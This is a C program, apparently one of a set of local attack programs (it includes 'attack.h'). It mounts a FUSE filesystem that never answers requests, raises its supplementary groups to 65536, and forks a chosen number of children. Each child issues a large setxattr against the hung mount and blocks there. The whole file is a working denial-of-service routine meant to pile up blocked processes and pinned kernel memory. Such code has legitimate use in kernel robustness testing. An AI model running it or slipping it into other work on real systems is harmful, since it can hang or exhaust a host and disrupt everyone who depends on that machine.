/* crowd PROCESSES: callers with as many groups as possible. Their large setxattr hangs in a FUSE that never answers. */
#define _GNU_SOURCE
#include "attack.h"

#include <fcntl.h>
#include <grp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    static gid_t groups[65536];
    static char value[65536];
    char options[128], name[64];
    int count = atoi(argv[1]), device = open("/dev/fuse", O_RDWR);

    (void)argc;
    snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", device);
    if (device < 0 || mount("hung", "/place", "fuse", 0, options) < 0)
        fail("/place");
    if (fork() == 0)
        serve_silent_fuse(device);
    close(device);
    for (int i = 0; i < 65536; i++)
        groups[i] = 1000000000u + i;
    if (setgroups(65536, groups) < 0)
        fail("setgroups");
    for (int i = 0; i < count; i++)
        if (fork() == 0) {
            snprintf(name, sizeof name, "/place/%d", i);
            setxattr(name, "user.x", value, sizeof value, 0);
            perror("setxattr");
            _exit(0);
        }
    for (;;)
        pause();
}
